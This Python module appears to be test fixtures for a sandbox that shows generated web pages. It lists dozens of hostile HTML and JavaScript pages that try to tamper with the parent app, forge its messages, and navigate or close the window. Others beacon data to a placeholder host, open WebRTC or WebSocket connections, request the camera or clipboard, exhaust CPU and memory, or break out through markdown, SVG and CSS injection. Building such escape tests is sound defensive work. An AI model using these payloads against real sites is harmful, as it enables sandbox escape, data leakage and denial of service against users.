"""Pages that try what a generated page must not do: name, what is tried, the page.

`FAR` stands for the address of a server of the test under a name of this page's own, `SOCKET` for the same as a
WebSocket, `STUN` for a socket of the test, and `NEAR` for a path of the app.
"""

# ruff: noqa: E501  (an attack is one line)
from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class Hostile:
    """One page and what it tries. `heavy` ones hang or kill their frame; of those that `leave`, the browser may open a
    connection ahead, over which nothing is sent, before it is told that they may not."""

    name: str
    tries: str
    page: str
    heavy: bool = False
    leave: bool = False


def js(name: str, tries: str, script: str, *, heavy: bool = False, leave: bool = False) -> Hostile:
    return Hostile(name, tries, f"<!doctype html>\n<p>{name}</p>\n<script>\n{script}\n</script>\n", heavy, leave)


def markup(name: str, tries: str, body: str, *, leave: bool = False) -> Hostile:
    return Hostile(name, tries, f"<!doctype html>\n<p>{name}</p>\n{body}\n", leave=leave)


NEST = "<script>const p = new RTCPeerConnection({iceServers: [{urls: 'STUN'}]}); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o))<\\/script>"
NESTED = NEST.replace("<\\/", "</").replace('"', "&quot;").replace("<", "&lt;")

APP = (
    js("parent-title", "rename the window around it", "try { parent.document.title = 'pwned' } catch {}"),
    js("parent-storage", "write to the app's storage", "try { parent.localStorage.setItem('pwned', 1) } catch {}"),
    js("own-storage", "reach the app's storage as its own", "delete window.localStorage; try { window.localStorage.pwned = 1 } catch {}"),
    js("cookie", "set a cookie of the app", "try { document.cookie = 'pwned=1; path=/' } catch {}"),
    js("indexed-db", "keep a database", "try { indexedDB.open('pwned') } catch {}"),
    js("caches", "keep a cache", "try { caches.open('pwned') } catch {}"),
    js("domain", "take the app's domain", "try { document.domain = '127.0.0.1'; parent.document.title = 'pwned' } catch {}"),
    js("frame-element", "leave through the element it is in", "try { frameElement.ownerDocument.title = 'pwned' } catch {}"),
    js("unsandbox", "take its sandbox off", "try { frameElement.removeAttribute('sandbox'); location.reload() } catch {}"),
    js("top-location", "navigate the window", "try { top.location = 'FAR' } catch {}"),
    js("top-replace", "navigate the window, replacing", "try { top.location.replace('NEAR') } catch {}"),
    js("top-hash", "change the window's address", "try { top.location.hash = 'pwned' } catch {}"),
    js("top-history", "go back in the window's history", "try { top.history.back() } catch {} try { history.go(-9) } catch {}"),
    js("push-state", "change the address by history", "try { history.pushState({}, '', 'NEAR') } catch {}"),
    markup("target-top", "a link for the window, clicked by script", "<a id=a target=_top href='FAR'>x</a><script>a.click()</script>"),
    markup("base-target", "a base that sends links to the window", "<base target=_top href='FAR'><a id=a href=x>x</a><script>a.click()</script>"),
    js("open", "open a window", "try { open('FAR') } catch {}"),
    js("open-named", "take over a window by its name", "try { open('FAR', '_parent') } catch {} try { open('FAR', '_top') } catch {}"),
    markup("target-blank", "a link to a new window", "<a id=a target=_blank rel=opener href='FAR'>x</a><script>a.click()</script>"),
    js("opener", "reach the window that opened it", "try { opener.document.title = 'pwned'; opener.location = 'FAR' } catch {}"),
    js("close", "close the window", "try { top.close(); parent.close(); close() } catch {}"),
    js("stop", "stop the window from loading", "try { parent.stop(); top.stop() } catch {}"),
    js("forge", "forge the shell's messages", "for (const clover of ['error', 'blocked', 'drew', 'loaded', 'alive', '__proto__']) parent.postMessage({ clover, text: '<img src=FAR onerror=alert(1)>', title: 'pwned' }, '*')"),
    js("forge-odd", "confuse the app by odd messages", "for (const odd of [null, 1, 'x', [], { clover: {} }, { clover: 'error', text: { toString: null } }, { clover: 'error', text: 'x'.repeat(1e6) }, new Error('x')]) parent.postMessage(odd, '*')"),
    js("flood", "flood the app with messages", "for (let i = 0; i < 20000; i++) parent.postMessage({ clover: 'error', text: 'pwned ' + i }, '*')"),
    js("gradio", "send Gradio's own messages", "for (const type of ['SET_SCROLLING', 'parent-size', 'theme', 'load']) parent.postMessage({ type, theme: 'dark', url: 'FAR' }, '*')"),
    js("channel", "reach the app by a channel", "try { new BroadcastChannel('clover').postMessage('pwned') } catch {}"),
    js("lock", "hold a lock of the app", "try { navigator.locks.request('pwned', () => new Promise(() => {})) } catch {}"),
    js("read-app", "read the app's own routes", "fetch('NEAR').catch(() => {}); fetch('/runs', { method: 'POST', body: 'pwned' }).catch(() => {})"),
)  # fmt: skip

ASKING = (
    js("alert", "a storm of dialogs", "for (let i = 0; i < 500; i++) { alert('pwned'); confirm('x'); prompt('x') }"),
    js("before-unload", "hold the window when it is left", "addEventListener('beforeunload', (e) => { e.preventDefault(); e.returnValue = 'x' })"),
    js("print", "print", "for (let i = 0; i < 50; i++) try { print() } catch {}"),
    markup("download", "download a file", "<a id=a download=pwned.html href='data:text/html,x'>x</a><script>a.click()</script>"),
    js("download-blob", "download a file made by script", "const a = document.createElement('a'); a.download = 'pwned.exe'; a.href = URL.createObjectURL(new Blob(['x'])); a.click()"),
    js("save-picker", "ask where to save a file", "try { showSaveFilePicker().catch(() => {}) } catch {}"),
    js("clipboard-write", "write to the clipboard", "try { navigator.clipboard.writeText('pwned').catch(() => {}) } catch {} document.execCommand('copy')"),
    js("clipboard-read", "read the clipboard", "window.got = 0; try { navigator.clipboard.readText().then(() => { got = 1 }, () => {}) } catch {}"),
    js("camera", "use camera and microphone", "window.got = 0; try { navigator.mediaDevices.getUserMedia({ video: true, audio: true }).then(() => { got = 1 }, () => {}) } catch {}"),
    js("screen", "record the screen", "window.got = 0; try { navigator.mediaDevices.getDisplayMedia().then(() => { got = 1 }, () => {}) } catch {}"),
    js("geolocation", "know where it is", "window.got = 0; try { navigator.geolocation.getCurrentPosition(() => { got = 1 }) } catch {}"),
    js("notification", "notify", "window.got = 0; try { Notification.requestPermission().catch(() => {}); new Notification('pwned').onshow = () => { got = 1 } } catch {}"),
    js("fullscreen", "fill the screen", "try { document.documentElement.requestFullscreen().catch(() => {}) } catch {}"),
    js("pointer-lock", "hold the pointer", "try { document.body.requestPointerLock()?.catch?.(() => {}) } catch {}"),
    js("keyboard-focus", "take the focus again and again", "const i = document.createElement('input'); document.body.append(i); setInterval(() => { i.focus(); window.focus() }, 5)"),
    js("usb", "reach devices", "for (const api of ['usb', 'hid', 'serial', 'bluetooth']) try { navigator[api].requestDevice?.({ filters: [] }).catch(() => {}) } catch {}"),
    js("payment", "ask for money", "try { new PaymentRequest([{ supportedMethods: 'FAR' }], { total: { label: 'x', amount: { currency: 'EUR', value: '1' } } }).show().catch(() => {}) } catch {}"),
)  # fmt: skip

NETWORK = (
    js("fetch", "fetch", "fetch('FAR', { mode: 'no-cors' }).catch(() => {}); fetch('FAR', { keepalive: true, method: 'POST', body: 'x' }).catch(() => {})"),
    js("xhr", "XMLHttpRequest", "try { const x = new XMLHttpRequest(); x.open('GET', 'FAR'); x.send() } catch {}"),
    js("image", "an image by script", "new Image().src = 'FAR'"),
    markup("img", "images by markup", "<img src='FAR'><img srcset='FAR 1x'><picture><source srcset='FAR'><img></picture><input type=image src='FAR'>"),
    markup("css-import", "a style sheet that imports", "<style>@import 'FAR'; @import url(FAR);</style>"),
    markup("css-url", "pictures of a style sheet", "<style>body { background: url(FAR); cursor: url(FAR), auto; list-style: url(FAR) } p::before { content: url(FAR) }</style>"),
    markup("css-font", "a font", "<style>@font-face { font-family: x; src: url(FAR) } p { font-family: x }</style>"),
    js("font-face", "a font by script", "new FontFace('x', 'url(FAR)').load().catch(() => {})"),
    markup("link", "style sheet, icon, manifest", "<link rel=stylesheet href='FAR'><link rel=icon href='FAR'><link rel=manifest href='FAR'>"),
    markup("prefetch", "fetch ahead", "<link rel=prefetch href='FAR'><link rel=preload as=image href='FAR'><link rel=modulepreload href='FAR'><link rel=prerender href='FAR'>"),
    markup("preconnect", "connect ahead", "<link rel=preconnect href='FAR'><link rel=preconnect crossorigin href='FAR'>"),
    js("preconnect-js", "connect ahead, by script", "for (const rel of ['preconnect', 'dns-prefetch preconnect']) { const l = document.createElement('link'); l.rel = rel; l.href = 'FAR'; document.head.append(l) }"),
    markup("dns-prefetch", "ask for a name", "<meta http-equiv=x-dns-prefetch-control content=on><link rel=dns-prefetch href='FAR'><a href='FAR'>x</a>"),
    markup("speculation", "let the browser guess ahead", "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"FAR\"]}], \"prerender\": [{\"urls\": [\"FAR\"]}]}</script>"),
    js("websocket", "a WebSocket", "try { new WebSocket('SOCKET') } catch {}"),
    js("event-source", "an EventSource", "try { new EventSource('FAR') } catch {}"),
    js("beacon", "a beacon", "try { navigator.sendBeacon('FAR', 'x') } catch {} addEventListener('pagehide', () => navigator.sendBeacon('FAR', 'x'))"),
    js("fetch-later", "fetch when it is closed", "try { fetchLater('FAR', { activateAfter: 0 }) } catch {}"),
    markup("form", "send a form", "<form id=f action='FAR' method=post><input name=a value=b></form><script>try { f.submit() } catch {} try { f.requestSubmit() } catch {}</script>"),
    markup("form-action", "send a form by its button", "<form><button id=b formaction='FAR' formtarget=_top>x</button></form><script>b.click()</script>"),
    markup("media", "sound and film", "<audio src='FAR' autoplay></audio><video src='FAR' poster='FAR' autoplay></video><video><source src='FAR'><track default src='FAR'></video>"),
    js("webrtc", "a connection by WebRTC", "try { const p = new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }); p.createDataChannel('x'); p.createOffer().then((o) => p.setLocalDescription(o)) } catch {}"),
    markup("webrtc-frame", "WebRTC from a frame in the page", f'<iframe srcdoc="{NESTED}"></iframe>'),
    js("webrtc-shadow", "WebRTC from a frame in a shadow tree", f"const h = document.createElement('div'); document.body.append(h); h.attachShadow({{ mode: 'closed', clonable: true }}).innerHTML = `<iframe srcdoc=\"{NESTED}\"></iframe>`; document.body.append(h.cloneNode(true))"),
    markup("webrtc-declared", "WebRTC from a shadow tree of the parser's", f'<div><template shadowrootmode=closed><iframe srcdoc="{NESTED}"></iframe></template></div>'),
    js("webrtc-written", "WebRTC from a document that is written", f"try {{ document.write('<div><template shadow'); document.write('rootmode=closed>') }} catch {{}} document.open(); document.write(`<iframe srcdoc=\"{NESTED}\"></iframe>`); document.close()"),
    js("webrtc-instead", "WebRTC from a document that takes its place", f"location = `javascript:'{NEST.replace(chr(39), chr(34))}'`"),
    js("webrtc-javascript", "WebRTC from an address that is a script", "const f = document.createElement('iframe'); f.src = `javascript:new RTCPeerConnection({ iceServers: [{ urls: 'STUN' }] }).createDataChannel('x')`; document.body.append(f)"),
    js("webtransport", "WebTransport", "try { new WebTransport('FAR'.replace('http:', 'https:')).ready.catch(() => {}) } catch {}"),
    js("worker", "a worker that fetches", "try { new Worker(URL.createObjectURL(new Blob([`fetch('FAR')`]))) } catch {} try { new Worker(`data:text/javascript,fetch('FAR')`) } catch {} try { new SharedWorker('NEAR') } catch {}"),
    js("service-worker", "a service worker of the app's", "try { navigator.serviceWorker.register('NEAR').catch(() => {}) } catch {}"),
    js("import", "import a module", "import('FAR').catch(() => {}); import('NEAR').catch(() => {})"),
    markup("import-map", "import by a map", "<script type=importmap>{\"imports\": {\"x\": \"FAR\"}}</script><script type=module>import 'x'</script>"),
    markup("script-src", "a script from elsewhere", "<script src='FAR'></script><script type=module src='FAR'></script><script src='NEAR'></script>"),
    markup("frames", "documents from elsewhere", "<iframe src='FAR'></iframe><iframe src='NEAR'></iframe><object data='FAR'></object><embed src='FAR'>", leave=True),
    markup("refresh", "leave by a refresh", "<meta http-equiv=refresh content='0; url=FAR'>", leave=True),
    markup("base", "a base for its addresses", "<base href='FAR'><img src=x><script src=y></script>"),
    markup("svg", "addresses in SVG", "<svg><image href='FAR'/><use href='FAR#x'/><feImage href='FAR'/><script href='FAR'></script></svg>"),
    markup("ping", "a link that pings", "<a id=a href='#x' ping='FAR'>x</a><script>a.click()</script>"),
    js("leave", "navigate itself", "location = 'FAR'", leave=True),
    js("leave-app", "navigate itself to the app", "location.assign('NEAR')", leave=True),
    js("leave-blob", "navigate itself to a page of its own", "location = URL.createObjectURL(new Blob(['<script>fetch(\"FAR\")<\\/script>'], { type: 'text/html' }))", leave=True),
    js("leave-data", "navigate itself to data", "location = `data:text/html,<script>fetch('FAR')<\\/script>`", leave=True),
    markup("link-click", "a link, clicked by script", "<a id=a href='FAR'>x</a><script>a.click()</script>"),
    markup("background", "addresses in old attributes", "<table background='FAR'><tr><td background='FAR'>x</table><body background='FAR'>"),
    js("eval", "make code of text", "try { eval('fetch(`FAR`)') } catch {} try { new Function('fetch(`FAR`)')() } catch {} try { setTimeout('fetch(`FAR`)') } catch {}"),
    js("wasm", "run compiled code", "try { new WebAssembly.Module(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0])); parent.pwned = 1 } catch {}"),
    js("report", "send reports", "try { new ReportingObserver(() => {}).observe() } catch {} const m = document.createElement('meta'); m.httpEquiv = 'Content-Security-Policy'; m.content = \"img-src 'none'; report-uri FAR\"; document.head.append(m); new Image().src = 'data:,x'"),
    markup("xslt", "a style sheet for XML", "<?xml-stylesheet href='FAR'?><svg><style>@import 'FAR';</style></svg>"),
    js("attribution", "attributes that fetch", "const i = new Image(); i.attributionSrc = 'FAR'; i.setAttribute('attributionsrc', 'FAR'); i.src = 'data:,x'; document.body.append(i)"),
)  # fmt: skip

EXHAUSTING = (
    js("loop", "an endless loop", "for (;;) ;", heavy=True),
    js("loop-late", "an endless loop, later", "setTimeout(() => { for (;;) ; }, 50)", heavy=True),
    js("memory", "all the memory", "const all = []; for (;;) all.push(new Array(1e6).fill(all.length))", heavy=True),
    js("dom", "ever more elements", "const more = () => { for (let i = 0; i < 3000; i++) document.body.append(document.createElement('p')); setTimeout(more) }; more()", heavy=True),
    js("console", "ever more output", "setInterval(() => { for (let i = 0; i < 500; i++) console.log('pwned', i) }, 5)", heavy=True),
    js("frames-a-second", "heavy drawing", "const spin = () => { const end = performance.now() + 200; while (performance.now() < end) ; requestAnimationFrame(spin) }; spin()", heavy=True),
    js("errors", "ever more errors", "setInterval(() => { for (let i = 0; i < 200; i++) Promise.reject(new Error('pwned ' + i)) }, 5)", heavy=True),
    js("recursion", "endless recursion", "const f = () => f(f()); const again = () => { try { f() } catch {} setTimeout(again) }; again()", heavy=True),
    js("regex", "an expression that takes for ever", "/^(a+)+$/.test('a'.repeat(40) + 'b')", heavy=True),
    js("reload", "load itself again and again", "setTimeout(() => location.reload(), 1)", heavy=True),
)  # fmt: skip

# Answers that are no page, and are put into one: kind, then as above.
OTHERS = (
    ("svg", Hostile("svg-alone", "scripts and addresses of a picture", "<svg viewBox='0 0 9 9' onload=\"parent.document.title = 'pwned'\"><image href='FAR'/><use href='FAR#x'/><style>@import 'FAR';</style><script>fetch('FAR').catch(() => {})</script></svg>")),
    ("css", Hostile("css-alone", "addresses of a style sheet, and its end", "@import 'FAR';\nbody { background: url(FAR) }\na::before { content: '</style><script>parent.pwned = 1; fetch(`FAR`)</script>' }")),
    ("script", Hostile("script-alone", "what a script alone can do, and its end", "const a = '</script><img src=FAR><script>parent.pwned = 1</script>'\nfetch('FAR').catch(() => {})\ntry { parent.document.title = 'pwned'; top.location = 'FAR' } catch {}")),
    ("markdown", Hostile("markdown-markup", "markup, pictures and links among words", "# words\n<img src='FAR' onerror='parent.pwned = 1'> ![a](FAR) ![a\"><img src=FAR>](FAR)\n[b](javascript:parent.pwned=1) [c](FAR\"onclick=x)\n\n| <img src=FAR> |\n|---|\n")),
    ("markdown", Hostile("markdown-formula", "commands of formulas", "$\\href{FAR}{x} \\includegraphics{FAR} \\url{javascript:parent.pwned=1}$ and $\\htmlStyle{background:url(FAR)}{x}$ and $\\def\\a{\\a\\a}\\a$ and $</span><img src=FAR>$")),
    ("json", Hostile("json-markup", "markup in JSON", "{\"<img src='FAR' onerror='parent.pwned=1'>\": [\"<script>fetch('FAR')</script>\"]}")),
    ("text", Hostile("words-markup", "markup in words", "Words with <img src='FAR' onerror='parent.pwned = 1'> in them, </pre> and more.")),
)  # fmt: skip

PAGES = (*APP, *ASKING, *NETWORK, *EXHAUSTING, *(page for _, page in OTHERS))
